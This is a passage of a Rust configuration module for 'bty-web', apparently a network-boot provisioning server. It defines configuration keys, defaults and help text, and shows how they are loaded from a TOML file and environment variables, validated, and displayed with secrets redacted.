//! Server configuration: built-in defaults, then `bty.toml`, then
//! `BTY_<SECTION>_<KEY>` environment variables, each key remembering where its
//! value came from so `bty-web show-config` can say so.
//!
//! One table ([`KEYS`]) drives parsing, environment names, validation and
//! `show-config`, so a key cannot exist in one place and be missing in another.

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

/// Where a key's effective value came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Origin {
    Default,
    /// The default did not fit this process (e.g. `/var/lib/bty` is not
    /// writable for a non-root user); the note says what was chosen instead.
    DefaultFallback(&'static str),
    File(PathBuf),
    Env(String),
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Origin::Default => f.write_str("default"),
            Origin::DefaultFallback(why) => write!(f, "default ({why})"),
            Origin::File(p) => write!(f, "file:{}", p.display()),
            Origin::Env(name) => write!(f, "env:{name}"),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Text,
    /// Absent, or a non-empty string.
    OptText,
    Int {
        min: u64,
        max: u64,
    },
    Secret,
    /// `true`/`false` (environment: also 1/0, yes/no, on/off).
    Bool,
    /// An array of strings (environment: comma-separated); kept joined by
    /// commas, none of them empty or holding one.
    List,
}

struct KeyDef {
    section: &'static str,
    key: &'static str,
    kind: Kind,
    /// `None`: no default (optional keys, or defaults derived from other keys).
    default: Option<&'static str>,
    help: &'static str,
}

const KEYS: &[KeyDef] = &[
    KeyDef {
        section: "server",
        key: "host",
        kind: Kind::Text,
        default: Some("0.0.0.0"),
        help: "address to listen on",
    },
    KeyDef {
        section: "server",
        key: "port",
        kind: Kind::Int { min: 0, max: 65535 },
        default: Some("8080"),
        help: "TCP port (0 = any free port)",
    },
    KeyDef {
        section: "server",
        key: "public_url",
        kind: Kind::OptText,
        default: None,
        help: "URL machines use to reach this server (default: from each request's Host header)",
    },
    KeyDef {
        section: "server",
        key: "idle_timeout_s",
        kind: Kind::Int { min: 1, max: 3600 },
        default: Some("60"),
        help: "seconds an open connection may wait for its next request before it is closed",
    },
    KeyDef {
        section: "server",
        key: "body_timeout_s",
        kind: Kind::Int { min: 1, max: 3600 },
        default: Some("30"),
        help: "seconds a request body may take to arrive (uploads: with no bytes at all) before 408 and a closed connection",
    },
    KeyDef {
        section: "server",
        key: "max_connections",
        kind: Kind::Int { min: 1, max: 1_000_000 },
        default: None,
        help: "connections served at once; more wait in the kernel's queue (default and ceiling: the open-file limit minus 64)",
    },
    KeyDef {
        section: "paths",
        key: "state_dir",
        kind: Kind::Text,
        default: Some("/var/lib/bty"),
        help: "state.db, boot/, images/, catalog.toml",
    },
    KeyDef {
        section: "paths",
        key: "boot_dir",
        kind: Kind::OptText,
        default: None,
        help: "live environment kernel/initrd/squashfs and iPXE binaries (default <state_dir>/boot)",
    },
    KeyDef {
        section: "paths",
        key: "images_dir",
        kind: Kind::OptText,
        default: None,
        help: "local image files named by catalog entries (default <state_dir>/images)",
    },
    KeyDef {
        section: "paths",
        key: "catalog",
        kind: Kind::OptText,
        default: None,
        help: "catalog.toml path or http(s) URL (default <state_dir>/catalog.toml)",
    },
    KeyDef {
        section: "paths",
        key: "cache_dir",
        kind: Kind::OptText,
        default: None,
        help: "the image cache: one download per image for the whole fleet (default <state_dir>/cache)",
    },
    KeyDef {
        section: "cache",
        key: "enabled",
        kind: Kind::Bool,
        default: Some("true"),
        help: "keep http(s) and oras:// images with a known SHA-256 in the cache (false: every download goes to the origin)",
    },
    KeyDef {
        section: "cache",
        key: "max_bytes",
        kind: Kind::Int { min: 1 << 20, max: 1 << 50 },
        default: Some("34359738368"),
        help: "the cache's size; least recently used images are evicted beyond it (never ones being read or bound to machines with a flash policy)",
    },
    KeyDef {
        section: "cache",
        key: "min_free_bytes",
        kind: Kind::Int { min: 0, max: 1 << 50 },
        default: Some("1073741824"),
        help: "free space kept on the cache's filesystem; images are evicted (or not cached) to keep it",
    },
    KeyDef {
        section: "cijoe",
        key: "command",
        kind: Kind::Text,
        default: Some("cijoe"),
        help: "the cijoe executable provisioning workflows run with (a name on PATH or a path)",
    },
    KeyDef {
        section: "cijoe",
        key: "timeout_seconds",
        kind: Kind::Int { min: 10, max: 86400 },
        default: Some("1800"),
        help: "longest a workflow may run, offline in the live environment or online; it is stopped and the run fails after it",
    },
    KeyDef {
        section: "cijoe",
        key: "keep_runs",
        kind: Kind::Int { min: 1, max: 10000 },
        default: Some("20"),
        help: "runs kept per machine (records and files); older ones are removed",
    },
    KeyDef {
        section: "cijoe",
        key: "max_parallel",
        kind: Kind::Int { min: 1, max: 256 },
        default: Some("4"),
        help: "online runs at once across all machines (one at a time per machine)",
    },
    KeyDef {
        section: "cijoe",
        key: "ssh_wait_seconds",
        kind: Kind::Int { min: 1, max: 86400 },
        default: Some("600"),
        help: "how long an online run waits for the booted machine's SSH port before it fails",
    },
    KeyDef {
        section: "paths",
        key: "catalog_refresh_seconds",
        kind: Kind::Int { min: 0, max: 7 * 86400 },
        default: Some("600"),
        help: "how often a catalog at an http(s) URL is fetched again (If-None-Match, so an unchanged one costs a 304); 0: only at start and from Settings",
    },
    KeyDef {
        section: "paths",
        key: "backup_dir",
        kind: Kind::OptText,
        default: None,
        help: "where backups go, one timestamped directory each (default <state_dir>/backups)",
    },
    KeyDef {
        section: "admin",
        key: "username",
        kind: Kind::Text,
        default: Some("bty"),
        help: "operator login name",
    },
    KeyDef {
        section: "admin",
        key: "password",
        kind: Kind::Secret,
        default: Some("bty"),
        help: "operator password; when set here it replaces the stored one at startup",
    },
    KeyDef {
        section: "boot",
        key: "kernel",
        kind: Kind::Text,
        default: Some("vmlinuz"),
        help: "live kernel in boot_dir",
    },
    KeyDef {
        section: "boot",
        key: "initrd",
        kind: Kind::Text,
        default: Some("initrd.gz"),
        help: "live initrd in boot_dir",
    },
    KeyDef {
        section: "boot",
        key: "squashfs",
        kind: Kind::OptText,
        default: None,
        help: "live root squashfs in boot_dir, passed as bty.squashfs=URL",
    },
    KeyDef {
        section: "boot",
        key: "extra_kernel_args",
        kind: Kind::Text,
        default: Some(""),
        help: "appended to the live kernel command line",
    },
    KeyDef {
        section: "limits",
        key: "max_body_bytes",
        kind: Kind::Int { min: 1024, max: 1 << 40 },
        default: Some("8388608"),
        help: "largest request body outside uploads (413 beyond)",
    },
    KeyDef {
        section: "limits",
        key: "max_upload_bytes",
        kind: Kind::Int { min: 1024, max: 1 << 50 },
        default: Some("68719476736"),
        help: "largest upload: PUT /boot/{name} and PUT /images/{name} (413 beyond)",
    },
    KeyDef {
        section: "limits",
        key: "max_inventory_bytes",
        kind: Kind::Int { min: 4096, max: 1 << 30 },
        default: Some("524288"),
        help: "largest POST /pxe/{mac}/inventory body (413 beyond; the agent then resends it without lshw)",
    },
    KeyDef {
        section: "audit",
        key: "pxe_history_days",
        kind: Kind::Int { min: 1, max: 36500 },
        default: Some("30"),
        help: "days the events PXE clients cause (offers, plans, reports) are kept; unacknowledged tripwires stay",
    },
    KeyDef {
        section: "audit",
        key: "pxe_events_per_machine",
        kind: Kind::Int { min: 10, max: 1_000_000 },
        default: Some("200"),
        help: "most PXE-client events kept per machine (older ones go first); also caps its flash history",
    },
    KeyDef {
        section: "auth",
        key: "session_ttl_hours",
        kind: Kind::Int { min: 1, max: 24 * 366 },
        default: Some("12"),
        help: "how long a login lasts",
    },
    KeyDef {
        section: "auth",
        key: "login_attempts_per_minute",
        kind: Kind::Int { min: 1, max: 100_000 },
        default: Some("10"),
        help: "login attempts allowed per minute for one username from one source IP (429 beyond; a success resets)",
    },
    KeyDef {
        section: "tuning",
        key: "backup_max_parallel",
        kind: Kind::Int { min: 1, max: 16 },
        default: Some("1"),
        help: "backups allowed to run at once (more are refused until one ends)",
    },
    KeyDef {
        section: "tuning",
        key: "backup_tick_seconds",
        kind: Kind::Int { min: 1, max: 3600 },
        default: Some("60"),
        help: "how often the backup scheduler checks whether a scheduled backup is due",
    },
    KeyDef {
        section: "netboot",
        key: "release_base_url",
        kind: Kind::OptText,
        default: None,
        help: "http(s) URL of the live-environment releases: <base>/<tag>/SHA256SUMS and the files it lists",
    },
    KeyDef {
        section: "netboot",
        key: "tag",
        kind: Kind::OptText,
        default: None,
        help: "release to fetch (default v<this bty-web's version>)",
    },
    KeyDef {
        section: "tftp",
        key: "enabled",
        kind: Kind::Bool,
        default: Some("false"),
        help: "serve the iPXE binaries over TFTP (the Settings page overrides this at runtime)",
    },
    KeyDef {
        section: "tftp",
        key: "address",
        kind: Kind::Text,
        default: Some("0.0.0.0"),
        help: "IPv4 address to serve TFTP on (0.0.0.0: every address the host has at start, each answering from itself)",
    },
    KeyDef {
        section: "tftp",
        key: "port",
        kind: Kind::Int { min: 1, max: 65535 },
        default: Some("69"),
        help: "UDP port for TFTP (below 1024 needs root or CAP_NET_BIND_SERVICE)",
    },
    KeyDef {
        section: "tftp",
        key: "max_transfers",
        kind: Kind::Int { min: 1, max: 100_000 },
        default: Some("16384"),
        help: "TFTP transfers at once (one socket each; at most half the open-file limit); more requests wait their turn",
    },
    KeyDef {
        section: "proxy_dhcp",
        key: "enabled",
        kind: Kind::Bool,
        default: Some("false"),
        help: "answer PXE firmware with where to boot (ProxyDHCP, UDP 67 and 4011; the LAN's DHCP server keeps assigning addresses; the Settings page overrides this at runtime)",
    },
    KeyDef {
        section: "proxy_dhcp",
        key: "interface",
        kind: Kind::OptText,
        default: None,
        help: "network interface to answer on, e.g. eth0 (unset: the default route's interface, else the only one with an IPv4 address)",
    },
    KeyDef {
        section: "proxy_dhcp",
        key: "advertise_address",
        kind: Kind::OptText,
        default: None,
        help: "IPv4 address PXE clients are told to fetch from (default: the interface's first IPv4 address)",
    },
    KeyDef {
        section: "proxy_dhcp",
        key: "efi_boot_file",
        kind: Kind::Text,
        default: Some("snponly.efi"),
        help: "iPXE binary UEFI firmware gets over TFTP: snponly.efi (the firmware's own network driver) or ipxe.efi",
    },
    KeyDef {
        section: "oci",
        key: "plain_http",
        kind: Kind::List,
        default: None,
        help: "registries (host:port) spoken to over plain HTTP for oras:// sources; loopback ones always are",
    },
    KeyDef {
        section: "oci",
        key: "credentials_file",
        kind: Kind::OptText,
        default: None,
        help: "registry credentials for oras:// sources, in docker's config.json format ({\"auths\": {\"REGISTRY\": {\"auth\": base64(user:password)}}}, as `docker login` writes); never in the catalog",
    },
    KeyDef {
        section: "os",
        key: "source",
        kind: Kind::OptText,
        default: None,
        help: "where the appliance's own releases are (a base with `latest` and VERSION/manifest.json): the OS page's check, download and apply",
    },
    KeyDef {
        section: "os",
        key: "pubkey",
        kind: Kind::OptText,
        default: None,
        help: "the release public key (a minisign.pub file) instead of the one built into bty",
    },
    KeyDef {
        section: "os",
        key: "esp",
        kind: Kind::OptText,
        default: None,
        help: "where the appliance's EFI system partition is mounted (default: the first of /efi, /boot, /boot/efi holding EFI/)",
    },
    KeyDef {
        section: "os",
        key: "disk",
        kind: Kind::OptText,
        default: None,
        help: "the appliance's disk (default: the disk with partitions labelled bty-a and bty-b)",
    },
];

impl KeyDef {
    fn env_name(&self) -> String {
        format!("BTY_{}_{}", self.section.to_ascii_uppercase(), self.key.to_ascii_uppercase())
    }
    fn dotted(&self) -> String {
        format!("{}.{}", self.section, self.key)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Value {
    Text(String),
    Int(u64),
    Bool(bool),
    Unset,
}

impl Value {
    fn text(&self) -> Option<&str> {
        match self {
            Value::Text(s) => Some(s),
            _ => None,
        }
    }
    fn int(&self) -> u64 {
        match self {
            Value::Int(n) => *n,
            _ => 0,
        }
    }
    fn bool(&self) -> bool {
        matches!(self, Value::Bool(true))
    }
}

/// Why the configuration was refused: every problem found, one per line.
#[derive(Debug)]
pub struct ConfigError(pub Vec<String>);

impl fmt::Display for ConfigError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("invalid configuration:")?;
        for p in &self.0 {
            write!(f, "\n  {p}")?;
        }
        Ok(())
    }
}

impl std::error::Error for ConfigError {}

#[derive(Debug, Clone)]
pub struct ServerConfig {
    pub host: String,
    pub port: u16,
    /// Without a trailing slash.
    pub public_url: Option<String>,
    /// Idle keep-alive connections are closed after this long; network boot
    /// clients abandon theirs (see `listener`).
    pub idle_timeout: std::time::Duration,
    /// How long a request body may take; for streamed uploads, how long it
    /// may go without a byte (see `listener`).
    pub body_timeout: std::time::Duration,
    /// `None`: derived from the open-file limit at startup.
    pub max_connections: Option<u64>,
}

#[derive(Debug, Clone)]
pub struct PathsConfig {
    pub state_dir: PathBuf,
    pub boot_dir: PathBuf,
    pub images_dir: PathBuf,
    /// A local path or an `http(s)://` URL.
    pub catalog: String,
    /// A remote catalog's refresh period (`None`: never on its own).
    pub catalog_refresh: Option<std::time::Duration>,
    pub backup_dir: PathBuf,
    pub cache_dir: PathBuf,
}

/// `[cache]`: the image cache under `[paths] cache_dir`.
#[derive(Debug, Clone)]
pub struct CacheConfig {
    pub enabled: bool,
    pub max_bytes: u64,
    pub min_free_bytes: u64,
}

/// `[cijoe]`: how provisioning workflows run.
#[derive(Debug, Clone)]
pub struct CijoeConfig {
    pub command: String,
    pub timeout: std::time::Duration,
    pub keep_runs: usize,
    pub max_parallel: usize,
    pub ssh_wait: std::time::Duration,
}

#[derive(Debug, Clone)]
pub struct TuningConfig {
    pub backup_max_parallel: usize,
    pub backup_tick_seconds: u64,
}

/// `[tftp]`: the read-only TFTP server for the iPXE binaries.
#[derive(Debug, Clone)]
pub struct TftpConfig {
    /// At startup; the Settings page can override it (see `settings`).
    pub enabled: bool,
    pub address: std::net::Ipv4Addr,
    pub port: u16,
    pub max_transfers: usize,
}

/// `[oci]`: how `oras://` sources reach registries.
#[derive(Debug, Clone, Default)]
pub struct OciConfig {
    pub plain_http: Vec<String>,
    pub credentials_file: Option<PathBuf>,
}

/// `[os]`: the appliance's own A/B updates.
#[derive(Debug, Clone, Default)]
pub struct OsConfig {
    pub source: Option<String>,
    pub pubkey: Option<PathBuf>,
    pub esp: Option<PathBuf>,
    pub disk: Option<PathBuf>,
}

/// `[proxy_dhcp]`: answering PXE firmware next to the LAN's DHCP server.
#[derive(Debug, Clone)]
pub struct ProxyDhcpConfig {
    /// At startup; the Settings page can override it (see `settings`).
    pub enabled: bool,
    pub interface: Option<String>,
    pub advertise_address: Option<std::net::Ipv4Addr>,
    pub efi_boot_file: String,
}

#[derive(Debug, Clone)]
pub struct NetbootConfig {
    /// Without a trailing slash.
    pub release_base_url: Option<String>,
    pub tag: String,
}

#[derive(Debug, Clone)]
pub struct AdminConfig {
    pub username: String,
    pub password: String,
    /// True when nobody configured a password: the stored one is kept, and
    /// a fresh database starts with the default.
    pub password_is_default: bool,
}

#[derive(Debug, Clone)]
pub struct BootConfig {
    pub kernel: String,
    pub initrd: String,
    pub squashfs: Option<String>,
    pub extra_kernel_args: String,
}

#[derive(Debug, Clone)]
pub struct LimitsConfig {
    pub max_body_bytes: u64,
    pub max_upload_bytes: u64,
    pub max_inventory_bytes: u64,
}

/// How long the history PXE clients cause is kept ([`crate::audit::prune`]).
#[derive(Debug, Clone, Copy)]
pub struct AuditConfig {
    pub pxe_history_days: u64,
    pub pxe_events_per_machine: u64,
}

#[derive(Debug, Clone)]
pub struct AuthConfig {
    pub session_ttl_hours: u64,
    pub login_attempts_per_minute: u32,
}

/// The effective configuration.
#[derive(Debug, Clone)]
pub struct Config {
    pub server: ServerConfig,
    pub paths: PathsConfig,
    pub admin: AdminConfig,
    pub boot: BootConfig,
    pub limits: LimitsConfig,
    pub audit: AuditConfig,
    pub auth: AuthConfig,
    pub tuning: TuningConfig,
    pub netboot: NetbootConfig,
    pub tftp: TftpConfig,
    pub proxy_dhcp: ProxyDhcpConfig,
    pub oci: OciConfig,
    pub os: OsConfig,
    pub cache: CacheConfig,
    pub cijoe: CijoeConfig,
    /// The file that was read, if any.
    pub file: Option<PathBuf>,
    values: BTreeMap<String, (Value, Origin)>,
}

/// One row of `show-config`.
#[derive(Debug, Clone, serde::Serialize)]
pub struct ShownKey {
    pub key: String,
    pub env: String,
    /// `None` for unset optional keys; secrets are redacted.
    pub value: Option<serde_json::Value>,
    pub source: String,
    pub help: &'static str,
}

fn default_value(def: &KeyDef) -> Value {
    match (def.default, def.kind) {
        (None, _) => Value::Unset,
        (Some(d), Kind::Int { .. }) => Value::Int(d.parse().expect("numeric default")),
        (Some(d), Kind::Bool) => Value::Bool(d == "true"),
        (Some(d), _) => Value::Text(d.to_string()),
    }
}

fn parse_env_value(def: &KeyDef, raw: &str) -> Result<Value, String> {
    match def.kind {
        Kind::Int { .. } => raw
            .trim()
            .parse::<u64>()
            .map(Value::Int)
            .map_err(|_| format!("`{raw}` is not a non-negative whole number")),
        Kind::Bool => match raw.trim().to_ascii_lowercase().as_str() {
            "true" | "1" | "yes" | "on" => Ok(Value::Bool(true)),
            "false" | "0" | "no" | "off" | "" => Ok(Value::Bool(false)),
            _ => Err(format!("`{raw}` is not true or false")),
        },
        Kind::OptText if raw.is_empty() => Ok(Value::Unset),
        Kind::List => list(raw.split(',').map(str::trim).filter(|s| !s.is_empty())),
        _ => Ok(Value::Text(raw.to_string())),
    }
}

fn list<'a>(items: impl Iterator<Item = &'a str>) -> Result<Value, String> {
    let items: Vec<&str> = items.collect();
    if let Some(bad) = items.iter().find(|s| s.is_empty() || s.contains(',')) {
        return Err(format!("{bad:?}: list items must be non-empty and hold no comma"));
    }
    Ok(if items.is_empty() { Value::Unset } else { Value::Text(items.join(",")) })
}

fn parse_file_value(def: &KeyDef, v: &toml::Value) -> Result<Value, String> {
    match (def.kind, v) {
        (Kind::Int { .. }, toml::Value::Integer(n)) if *n >= 0 => Ok(Value::Int(*n as u64)),
        (Kind::Int { .. }, toml::Value::Integer(n)) => Err(format!("{n} is negative")),
        (Kind::Int { .. }, other) => Err(format!("must be an integer, not a {}", other.type_str())),
        (Kind::Bool, toml::Value::Boolean(b)) => Ok(Value::Bool(*b)),
        (Kind::Bool, other) => Err(format!("must be true or false, not a {}", other.type_str())),
        (Kind::OptText, toml::Value::String(s)) if s.is_empty() => Ok(Value::Unset),
        (Kind::List, toml::Value::Array(a)) => {
            let items: Option<Vec<&str>> = a.iter().map(|v| v.as_str()).collect();
            list(items.ok_or("must be an array of strings")?.into_iter())
        }
        (Kind::List, other) => Err(format!("must be an array of strings, not a {}", other.type_str())),
        (_, toml::Value::String(s)) => Ok(Value::Text(s.clone())),
        (_, other) => Err(format!("must be a string, not a {}", other.type_str())),
    }
}

/// Where `bty.toml` is: `--config`, else `BTY_CONFIG_FILE`, else
/// `$BTY_CONFIG_DIR/bty.toml` when that exists. The first two must exist.
fn config_file(explicit: Option<&Path>, env: &dyn Fn(&str) -> Option<String>) -> Option<PathBuf> {
    if let Some(p) = explicit {
        return Some(p.to_path_buf());
    }
    if let Some(p) = env("BTY_CONFIG_FILE").filter(|s| !s.is_empty()) {
        return Some(PathBuf::from(p));
    }
    if let Some(dir) = env("BTY_CONFIG_DIR").filter(|s| !s.is_empty()) {
        let p = Path::new(&dir).join("bty.toml");
        if p.exists() {
            return Some(p);
        }
    }
    None
}

/// The state directory when nobody configured one. Root (and a service user
/// that owns `/var/lib/bty`) gets `/var/lib/bty`; anyone else would fail to
/// create it, so they get `$XDG_STATE_HOME/bty`, else `./bty-state`.
fn default_state_dir(env: &dyn Fn(&str) -> Option<String>) -> (String, Origin) {
    use std::os::unix::fs::MetadataExt;
    let me = std::fs::metadata("/proc/self").map(|m| m.uid()).ok();
    let owner = std::fs::metadata("/var/lib/bty").map(|m| m.uid()).ok();
    if me == Some(0) || (me.is_some() && me == owner) {
        return ("/var/lib/bty".into(), Origin::Default);
    }
    match env("XDG_STATE_HOME").filter(|s| !s.is_empty()) {
        Some(x) => (
            Path::new(&x).join("bty").to_string_lossy().into_owned(),
            Origin::DefaultFallback("not root and /var/lib/bty is not ours: $XDG_STATE_HOME/bty"),
        ),
        None => (
            "./bty-state".into(),
            Origin::DefaultFallback("not root and /var/lib/bty is not ours: ./bty-state"),
        ),
    }
}

/// A secret from a file: at most 4 KiB, one trailing newline dropped.
fn read_secret_file(path: &Path) -> Result<String, String> {
    use std::io::Read;
    let mut text = String::new();
    std::fs::File::open(path)
        .and_then(|f| f.take(4097).read_to_string(&mut text))
        .map_err(|e| format!("cannot read {}: {e}", path.display()))?;
    if text.len() > 4096 {
        return Err(format!("{} is larger than 4 KiB; it is not a password file", path.display()));
    }
    let trimmed = text.strip_suffix('\n').unwrap_or(&text);
    Ok(trimmed.strip_suffix('\r').unwrap_or(trimmed).to_string())
}

fn valid_plain_name(s: &str) -> bool {
    !s.is_empty()
        && !s.starts_with('.')
        && s.len() <= 255
        && !s.contains(['/', '\\', '\0'])
        && !s.chars().any(char::is_control)
}

impl Config {
    /// Load from the real process environment.
    pub fn load(explicit_file: Option<&Path>) -> Result<Config, ConfigError> {
        Self::load_with(explicit_file, &|k| std::env::var(k).ok())
    }

    /// Load with an injected environment (tests, and `show-config`).
    pub fn load_with(
        explicit_file: Option<&Path>,
        env: &dyn Fn(&str) -> Option<String>,
    ) -> Result<Config, ConfigError> {
        let mut problems = Vec::new();
        let mut values: BTreeMap<String, (Value, Origin)> = BTreeMap::new();
        for def in KEYS {
            values.insert(def.dotted(), (default_value(def), Origin::Default));
        }

        let file = config_file(explicit_file, env);
        if let Some(path) = &file {
            let text = std::fs::read_to_string(path).map_err(|e| {
                ConfigError(vec![format!(
                    "cannot read config file {}: {e} (check --config / BTY_CONFIG_FILE / BTY_CONFIG_DIR)",
                    path.display()
                )])
            })?;
            let table: toml::Table = toml::from_str(&text).map_err(|e| {
                ConfigError(vec![format!("{} is not valid TOML: {}", path.display(), e.to_string().trim())])
            })?;
            for (section, body) in &table {
                let Some(body) = body.as_table() else {
                    problems.push(format!(
                        "{section} (file:{}): expected a [{section}] table; keys live in sections such as [server]",
                        path.display()
                    ));
                    continue;
                };
                for (key, v) in body {
                    let Some(def) = KEYS.iter().find(|d| d.section == section && d.key == key) else {
                        let known: Vec<String> =
                            KEYS.iter().filter(|d| d.section == section).map(|d| d.key.to_string()).collect();
                        let hint = if known.is_empty() {
                            format!("unknown section [{section}]")
                        } else {
                            format!("unknown key; [{section}] knows {}", known.join(", "))
                        };
                        problems.push(format!("{section}.{key} (file:{}): {hint}", path.display()));
                        continue;
                    };
                    match parse_file_value(def, v) {
                        Ok(val) => {
                            values.insert(def.dotted(), (val, Origin::File(path.clone())));
                        }
                        Err(e) => problems.push(format!("{}.{key} (file:{}): {e}", section, path.display())),
                    }
                }
            }
        }

        for def in KEYS {
            let name = def.env_name();
            if let Some(raw) = env(&name) {
                match parse_env_value(def, &raw) {
                    Ok(val) => {
                        values.insert(def.dotted(), (val, Origin::Env(name)));
                    }
                    Err(e) => problems.push(format!("{} (env:{name}): {e}", def.dotted())),
                }
            } else if def.kind == Kind::Secret {
                // A secret can come from a file (a container secret, a systemd credential):
                // `BTY_ADMIN_PASSWORD_FILE=/run/secrets/bty-admin-password`.
                let file_var = format!("{name}_FILE");
                if let Some(path) = env(&file_var).filter(|p| !p.is_empty()) {
                    match read_secret_file(Path::new(&path)) {
                        Ok(text) => match parse_env_value(def, &text) {
                            Ok(val) => {
                                values.insert(def.dotted(), (val, Origin::Env(file_var)));
                            }
                            Err(e) => problems.push(format!("{} (env:{file_var}): {e}", def.dotted())),
                        },
                        Err(e) => problems.push(format!("{} (env:{file_var}): {e}", def.dotted())),
                    }
                }
            }
        }

        if values["paths.state_dir"].1 == Origin::Default {
            let (dir, origin) = default_state_dir(env);
            values.insert("paths.state_dir".into(), (Value::Text(dir), origin));
        }

        for def in KEYS {
            let (v, origin) = &values[&def.dotted()];
            if let Err(e) = validate(def, v) {
                problems.push(format!("{} ({origin}): {e}", def.dotted()));
            }
        }
        if !problems.is_empty() {
            return Err(ConfigError(problems));
        }
        Ok(Self::from_values(values, file))
    }

    fn from_values(values: BTreeMap<String, (Value, Origin)>, file: Option<PathBuf>) -> Config {
        let text = |k: &str| values[k].0.text().map(str::to_string);
        let int = |k: &str| values[k].0.int();
        let flag = |k: &str| values[k].0.bool();
        let ipv4 = |k: &str| text(k).and_then(|a| a.trim().parse::<std::net::Ipv4Addr>().ok());
        let state_dir = PathBuf::from(text("paths.state_dir").unwrap_or_default());
        Config {
            server: ServerConfig {
                host: text("server.host").unwrap_or_default(),
                port: int("server.port") as u16,
                public_url: text("server.public_url").map(|u| u.trim_end_matches('/').to_string()),
                idle_timeout: std::time::Duration::from_secs(int("server.idle_timeout_s")),
                body_timeout: std::time::Duration::from_secs(int("server.body_timeout_s")),
                max_connections: (values["server.max_connections"].0 != Value::Unset)
                    .then(|| int("server.max_connections")),
            },
            paths: PathsConfig {
                boot_dir: text("paths.boot_dir").map(PathBuf::from).unwrap_or_else(|| state_dir.join("boot")),
                images_dir: text("paths.images_dir")
                    .map(PathBuf::from)
                    .unwrap_or_else(|| state_dir.join("images")),
                catalog: text("paths.catalog")
                    .unwrap_or_else(|| state_dir.join("catalog.toml").to_string_lossy().into_owned()),
                catalog_refresh: Some(int("paths.catalog_refresh_seconds"))
                    .filter(|s| *s > 0)
                    .map(std::time::Duration::from_secs),
                backup_dir: text("paths.backup_dir")
                    .map(PathBuf::from)
                    .unwrap_or_else(|| state_dir.join("backups")),
                cache_dir: text("paths.cache_dir")
                    .map(PathBuf::from)
                    .unwrap_or_else(|| state_dir.join("cache")),
                state_dir,
            },
            cache: CacheConfig {
                enabled: flag("cache.enabled"),
                max_bytes: int("cache.max_bytes"),
                min_free_bytes: int("cache.min_free_bytes"),
            },
            cijoe: CijoeConfig {
                command: text("cijoe.command").unwrap_or_else(|| "cijoe".into()),
                timeout: std::time::Duration::from_secs(int("cijoe.timeout_seconds")),
                keep_runs: int("cijoe.keep_runs") as usize,
                max_parallel: int("cijoe.max_parallel") as usize,
                ssh_wait: std::time::Duration::from_secs(int("cijoe.ssh_wait_seconds")),
            },
            admin: AdminConfig {
                username: text("admin.username").unwrap_or_default(),
                password: text("admin.password").unwrap_or_default(),
                password_is_default: values["admin.password"].1 == Origin::Default,
            },
            boot: BootConfig {
                kernel: text("boot.kernel").unwrap_or_default(),
                initrd: text("boot.initrd").unwrap_or_default(),
                squashfs: text("boot.squashfs"),
                extra_kernel_args: text("boot.extra_kernel_args").unwrap_or_default(),
            },
            limits: LimitsConfig {
                max_body_bytes: int("limits.max_body_bytes"),
                max_upload_bytes: int("limits.max_upload_bytes"),
                max_inventory_bytes: int("limits.max_inventory_bytes"),
            },
            audit: AuditConfig {
                pxe_history_days: int("audit.pxe_history_days"),
                pxe_events_per_machine: int("audit.pxe_events_per_machine"),
            },
            auth: AuthConfig {
                session_ttl_hours: int("auth.session_ttl_hours"),
                login_attempts_per_minute: int("auth.login_attempts_per_minute") as u32,
            },
            tuning: TuningConfig {
                backup_max_parallel: int("tuning.backup_max_parallel") as usize,
                backup_tick_seconds: int("tuning.backup_tick_seconds"),
            },
            netboot: NetbootConfig {
                release_base_url: text("netboot.release_base_url")
                    .map(|u| u.trim_end_matches('/').to_string()),
                tag: text("netboot.tag").unwrap_or_else(|| format!("v{}", env!("CARGO_PKG_VERSION"))),
            },
            tftp: TftpConfig {
                enabled: flag("tftp.enabled"),
                address: ipv4("tftp.address").unwrap_or(std::net::Ipv4Addr::UNSPECIFIED),
                port: int("tftp.port") as u16,
                max_transfers: int("tftp.max_transfers") as usize,
            },
            proxy_dhcp: ProxyDhcpConfig {
                enabled: flag("proxy_dhcp.enabled"),
                interface: text("proxy_dhcp.interface"),
                advertise_address: ipv4("proxy_dhcp.advertise_address"),
                efi_boot_file: text("proxy_dhcp.efi_boot_file").unwrap_or_default(),
            },
            oci: OciConfig {
                plain_http: text("oci.plain_http")
                    .map(|s| s.split(',').map(|h| h.to_ascii_lowercase()).collect())
                    .unwrap_or_default(),
                credentials_file: text("oci.credentials_file").map(PathBuf::from),
            },
            os: OsConfig {
                source: text("os.source"),
                pubkey: text("os.pubkey").map(PathBuf::from),
                esp: text("os.esp").map(PathBuf::from),
                disk: text("os.disk").map(PathBuf::from),
            },
            file,
            values,
        }
    }

    /// Defaults only, with the state directory at `dir` (tests and embedding).
    pub fn for_state_dir(dir: &Path) -> Config {
        let dir = dir.to_string_lossy().into_owned();
        Self::load_with(None, &|k| (k == "BTY_PATHS_STATE_DIR").then(|| dir.clone()))
            .expect("defaults are valid")
    }

    /// Every key with its value (secrets redacted) and origin.
    pub fn shown(&self) -> Vec<ShownKey> {
        KEYS.iter()
            .map(|def| {
                let (v, origin) = &self.values[&def.dotted()];
                let value = match (v, def.kind) {
                    (Value::Unset, _) => None,
                    (_, Kind::Secret) => Some(serde_json::Value::from("<redacted>")),
                    (Value::Text(s), Kind::List) => {
                        Some(serde_json::Value::from(s.split(',').collect::<Vec<_>>()))
                    }
                    (Value::Int(n), _) => Some(serde_json::Value::from(*n)),
                    (Value::Bool(b), _) => Some(serde_json::Value::from(*b)),
                    (Value::Text(s), _) => Some(serde_json::Value::from(s.as_str())),
                };
                ShownKey {
                    key: def.dotted(),
                    env: def.env_name(),
                    value,
                    source: origin.to_string(),
                    help: def.help,
                }
            })
            .collect()
    }

    /// `show-config` as aligned text.
    pub fn render_text(&self) -> String {
        let rows = self.shown();
        let mut out = String::new();
        if let Some(f) = &self.file {
            out.push_str(&format!("# config file: {}\n", f.display()));
        } else {
            out.push_str("# config file: none (set --config, BTY_CONFIG_FILE or BTY_CONFIG_DIR)\n");
        }
        let lines: Vec<(String, &ShownKey)> = rows
            .iter()
            .map(|r| {
                let v = match &r.value {
                    None => "(unset)".to_string(),
                    Some(v) => v.to_string(),
                };
                (format!("{} = {v}", r.key), r)
            })
            .collect();
